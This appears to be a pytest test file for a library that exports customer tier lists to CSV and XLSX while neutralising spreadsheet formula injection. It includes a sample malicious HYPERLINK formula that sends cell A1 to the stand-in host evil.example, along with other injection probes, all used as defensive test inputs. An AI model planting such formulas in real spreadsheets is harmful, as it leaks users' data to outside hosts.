"""lib.export: tier lists to CSV and XLSX that no spreadsheet will run as formulas."""

import math

import numpy as np
import openpyxl
import pandas as pd
import pytest

from lib.charts import tier_color
from lib.export import formula_safe, formula_safe_frame, to_csv_bytes, write_table

MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "customer_id": ["CUST-1", "CUST-2", "CUST-3", "CUST-4"],
            "customer_name": ['Zoë, "Ltd"', "Plain Name", "Ünïcode GmbH", "Semi;colon"],
            "annual_revenue": [1_234_567.89, 55_000.0, -1_200.5, 0.0],
            "tier": ["Tier 1", "Tier 2", "Tier 3", "Tier 3"],
        }
    )


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1:A9)", "\tcmd", "\rcmd", "\ncmd", MALICIOUS]
)
def test_text_a_spreadsheet_would_run_gets_a_quote_prefix(text):
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme", "", "1-2", "a=b", " =1", "Tier 1"])
def test_ordinary_text_is_left_alone(text):
    assert formula_safe(text) == text


@pytest.mark.parametrize("number", [5, -5, -1200.5, 0.0, np.float64(-3.0), np.int64(-7)])
def test_numbers_including_negative_ones_stay_numbers(number):
    assert formula_safe(number) is number


def test_formula_safe_frame_guards_text_cells_and_headers_but_not_numbers(frame):
    frame.loc[0, "customer_name"] = MALICIOUS
    frame["=cmd"] = ["-x", "y", "+z", "w"]
    safe = formula_safe_frame(frame)
    assert safe.loc[0, "customer_name"] == "'" + MALICIOUS
    assert safe["annual_revenue"].tolist() == frame["annual_revenue"].tolist()
    assert safe.columns[-1] == "'=cmd"
    assert safe["'=cmd"].tolist() == ["'-x", "y", "'+z", "w"]
    assert frame.loc[0, "customer_name"] == MALICIOUS  # the original is untouched


def test_csv_reads_back_with_the_same_rows(frame, tmp_path):
    path = write_table(frame, tmp_path / "tiers.csv")
    assert path == tmp_path / "tiers.csv"
    back = pd.read_csv(path, dtype={"customer_id": str, "customer_name": str, "tier": str})
    pd.testing.assert_frame_equal(back, frame)


def test_csv_is_plain_utf8_without_a_byte_order_mark(frame):
    data = to_csv_bytes(frame)
    assert data.startswith(b"customer_id,")
    assert "Zoë".encode() in data


def test_csv_guards_formula_text_but_keeps_negative_numbers(frame, tmp_path):
    frame.loc[1, "customer_name"] = MALICIOUS
    back = pd.read_csv(write_table(frame, tmp_path / "tiers.csv"))
    assert back.loc[1, "customer_name"] == "'" + MALICIOUS
    assert back.loc[2, "annual_revenue"] == -1200.5


@pytest.mark.parametrize("name", ["tiers.xlsx", "TIERS.XLSX"])
def test_xlsx_keeps_text_as_text_cells_and_numbers_as_numbers(frame, tmp_path, name):
    frame.loc[0, "customer_name"] = MALICIOUS
    frame.loc[3, "customer_name"] = None
    path = write_table(frame, tmp_path / name)
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows())
    header = rows[0]
    assert [cell.value for cell in header] == list(frame.columns)
    assert all(cell.data_type == "s" and cell.font.b for cell in header)
    formula_cell = rows[1][1]
    assert formula_cell.value == MALICIOUS
    assert formula_cell.data_type == "s"
    for row, revenue in zip(rows[1:], frame["annual_revenue"], strict=True):
        assert row[2].data_type == "n"
        assert math.isclose(row[2].value, revenue)
        assert row[0].data_type == "s"
        assert row[3].value.startswith("Tier ")
        tier = int(row[3].value.removeprefix("Tier "))
        assert row[3].fill.fgColor.rgb == "FF" + tier_color(tier).removeprefix("#").upper()
    assert rows[1][1].fill.fgColor.rgb in (None, "00000000")  # other text: no fill
    assert rows[4][1].value is None  # a missing name is a blank cell, not "None" or "nan"
    assert len(rows) == len(frame) + 1


def test_money_columns_are_written_to_the_cent_in_csv_and_xlsx(tmp_path):
    frame = pd.DataFrame(
        {
            "customer_id": ["A", "B"],
            "annual_revenue": [50470.479999999996, 0.1 + 0.2],
            "margin": [1234.5600000000002, -0.30000000000000004],
            "revenue_share": [0.123456789, 0.5],
        }
    )
    text = to_csv_bytes(frame).decode()
    assert text.splitlines()[1:] == ["A,50470.48,1234.56,0.123456789", "B,0.3,-0.3,0.5"]
    sheet = openpyxl.load_workbook(write_table(frame, tmp_path / "t.xlsx")).active
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["A", 50470.48, 1234.56, 0.123456789],
        ["B", 0.3, -0.3, 0.5],
    ]
    assert frame["annual_revenue"][0] == 50470.479999999996  # the caller's frame is untouched
